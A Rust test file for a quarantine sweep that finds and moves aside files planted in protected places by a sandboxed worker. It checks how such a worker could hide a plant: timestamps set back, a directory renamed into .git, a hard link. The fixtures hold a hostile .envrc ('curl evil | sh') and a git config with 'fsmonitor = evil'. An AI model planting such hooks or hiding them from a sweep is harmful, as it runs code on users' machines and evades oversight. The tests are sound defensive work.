//! Records against the sweep: what an unchanged tree costs, and the ways a worker could try
//! to hide a plant behind a record. Each test first waits out the margin, so that the
//! records are trusted and the next sweep really lists only what changed.

use std::fs;
use std::os::fd::AsFd;
use std::path::Path;
use std::time::Duration;

use rustix::fs::{Mode, OFlags, Timespec, Timestamps};

use super::*;
use crate::held::Held;
use crate::hostrun::area::ProtectedArea;
use crate::hostrun::quarantine::sweep;

fn area(dir: &Path, protection: Protection) -> ProtectedArea {
    ProtectedArea::of("/work", Held(Arc::new(fs::File::open(dir).unwrap().into())), protection)
}

/// A tree of 3 levels × 4 directories, 5 files in each, made long enough ago that its
/// records are trusted.
fn tree() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().unwrap();
    for a in 0..4 {
        for b in 0..4 {
            for c in 0..4 {
                let d = tmp.path().join(format!("a{a}/b{b}/c{c}"));
                fs::create_dir_all(&d).unwrap();
                for f in 0..5 {
                    fs::write(d.join(format!("f{f}.txt")), "x").unwrap();
                }
            }
        }
    }
    std::thread::sleep(Duration::from_nanos(MARGIN_NS as u64) + Duration::from_millis(100));
    tmp
}

/// Sweeps and says whether the sweep listed any directory (its records changed).
fn sweep_listed(area: &ProtectedArea, run: &str) -> (crate::hostrun::quarantine::Report, bool) {
    let report = sweep(area, run);
    (report, area.looked.to_keep().is_some())
}

/// Sets the access and modification times of `rel` and every directory on its way back to
/// 2001, as a worker covering its tracks would.
fn set_times_back(root: &Path, rel: &str) {
    let old = Timespec { tv_sec: 1_000_000_000, tv_nsec: 0 };
    let root_fd = rustix::fs::open(root, OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()).unwrap();
    let mut path = Path::new(rel);
    loop {
        rustix::fs::utimensat(&root_fd, path, &Timestamps { last_access: old, last_modification: old }, rustix::fs::AtFlags::empty()).unwrap();
        match path.parent() {
            Some(p) if !p.as_os_str().is_empty() => path = p,
            _ => break,
        }
    }
    rustix::fs::utimensat(&root_fd, ".", &Timestamps { last_access: old, last_modification: old }, rustix::fs::AtFlags::empty()).unwrap();
}

#[test]
fn an_unchanged_tree_is_listed_once() {
    let tmp = tree();
    let a = area(tmp.path(), Protection::default());
    let (first, listed) = sweep_listed(&a, "r1");
    assert!(first.is_empty() && listed, "{first:?}");
    let (second, listed) = sweep_listed(&a, "r2");
    assert!(second.is_empty(), "{second:?}");
    assert!(!listed, "the second sweep of an unchanged tree listed a directory again");
    // Every directory has its record: the root, 4 + 16 + 64 below it.
    let looks = a.looked.take(&key(&a.protection)).unwrap();
    assert_eq!(looks.dirs.len(), 85, "{:?}", looks.dirs.keys().collect::<Vec<_>>());
}

#[test]
fn a_deep_plant_with_its_times_set_back_is_moved_aside() {
    let tmp = tree();
    let a = area(tmp.path(), Protection::default());
    sweep_listed(&a, "r1");
    assert!(!sweep_listed(&a, "r2").1, "records are not trusted: the test would prove nothing");
    fs::write(tmp.path().join("a2/b3/c1/.envrc"), "curl evil | sh").unwrap();
    set_times_back(tmp.path(), "a2/b3/c1/.envrc");
    let (report, _) = sweep_listed(&a, "r3");
    assert!(!tmp.path().join("a2/b3/c1/.envrc").exists(), "{report:?}");
    assert_eq!(report.total, 1, "{report:?}");
}

#[test]
fn a_directory_moved_in_from_elsewhere_is_walked_whole() {
    let tmp = tree();
    // `config` is protected only in a git directory: not in `a0/b0/cfg/`, but in `a2/.git/`.
    fs::create_dir_all(tmp.path().join("a0/b0/cfg/deeper")).unwrap();
    fs::write(tmp.path().join("a0/b0/cfg/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    std::thread::sleep(Duration::from_nanos(MARGIN_NS as u64) + Duration::from_millis(100));
    let a = area(tmp.path(), Protection::default());
    let (report, _) = sweep_listed(&a, "r1");
    assert!(report.is_empty() && tmp.path().join("a0/b0/cfg/config").exists(), "not protected there: {report:?}");
    assert!(!sweep_listed(&a, "r2").1, "records are not trusted: the test would prove nothing");
    fs::rename(tmp.path().join("a0/b0/cfg"), tmp.path().join("a2/.git")).unwrap();
    set_times_back(tmp.path(), "a2/.git/config");
    let (report, _) = sweep_listed(&a, "r3");
    assert!(!tmp.path().join("a2/.git/config").exists(), "{report:?}");
    assert_eq!(report.total, 1, "{report:?}");
}

#[test]
fn a_hard_link_under_a_protected_name_is_moved_aside() {
    let tmp = tree();
    let a = area(tmp.path(), Protection::default());
    sweep_listed(&a, "r1");
    assert!(!sweep_listed(&a, "r2").1);
    fs::hard_link(tmp.path().join("a1/b1/c1/f0.txt"), tmp.path().join("a3/b0/c2/.envrc")).unwrap();
    set_times_back(tmp.path(), "a3/b0/c2/.envrc");
    let (report, _) = sweep_listed(&a, "r3");
    assert!(!tmp.path().join("a3/b0/c2/.envrc").exists(), "{report:?}");
    assert!(tmp.path().join("a1/b1/c1/f0.txt").exists());
}

#[test]
fn a_record_is_trusted_only_for_the_same_object_unchanged_and_settled() {
    let tmp = tree();
    let p = Protection::default();
    let root = fs::File::open(tmp.path()).unwrap();
    let dir = |rel: &str| fs::File::open(tmp.path().join(rel)).unwrap();
    let st = |rel: &str| rustix::fs::fstat(dir(rel)).unwrap();
    let mut first = Looking::new(root.as_fd(), &p, |_| None);
    let l = first.listing(b"a1", &st("a1"));
    first.listed(b"a1", l);
    let made = first.after.clone();
    // The same directory, unchanged, long settled: trusted.
    let mut again = Looking::new(root.as_fd(), &p, |_| Some(made.clone()));
    assert!(again.trusted(b"a1", &st("a1")).is_some());
    // At another path, or another directory at its path: not.
    assert!(again.trusted(b"a2", &st("a1")).is_none());
    assert!(again.trusted(b"a1", &st("a2")).is_none());
    // Changed since (a name added): not.
    fs::write(tmp.path().join("a1/new"), "").unwrap();
    assert!(again.trusted(b"a1", &st("a1")).is_none());
    // Listed too soon after its last change (racy): not, even unchanged.
    let mut racy = Looking::new(root.as_fd(), &p, |_| None);
    let l = racy.listing(b"a1", &st("a1"));
    racy.listed(b"a1", l);
    let racy_made = racy.after.clone();
    let mut later = Looking::new(root.as_fd(), &p, |_| Some(racy_made.clone()));
    assert!(later.trusted(b"a1", &st("a1")).is_none());
    // Made with another protection: not used.
    let other = Protection::default().with_more(["x".to_string()]).unwrap();
    let mut elsewhere = Looking::new(root.as_fd(), &other, |_| Some(made.clone()));
    assert!(elsewhere.trusted(b"a1", &st("a1")).is_none());
    // A record from the future (the clock set back since): none is used.
    let mut future = made.clone();
    future.dirs.values_mut().for_each(|s| s.at += 3_600_000_000_000);
    let mut behind = Looking::new(root.as_fd(), &p, |_| Some(future.clone()));
    assert!(behind.trusted(b"a2", &st("a2")).is_none());
}

#[test]
fn records_kept_in_the_project_are_read_back_and_garbage_is_ignored() {
    let tmp = tree();
    let project = tempfile::tempdir().unwrap();
    let a = area(tmp.path(), Protection::default());
    sweep_listed(&a, "r1");
    let zone = fs::File::open(tmp.path()).unwrap();
    let k = key(&a.protection);
    let looks = a.looked.take(&k).unwrap();
    store::save(project.path(), zone.as_fd(), std::slice::from_ref(&looks));
    assert_eq!(store::load(project.path(), zone.as_fd(), &k).as_ref(), Some(&looks));
    let file = fs::read_dir(project.path().join(store::DIR)).unwrap().next().unwrap().unwrap().path();
    fs::write(&file, "{not json").unwrap();
    assert_eq!(store::load(project.path(), zone.as_fd(), &k), None);
}
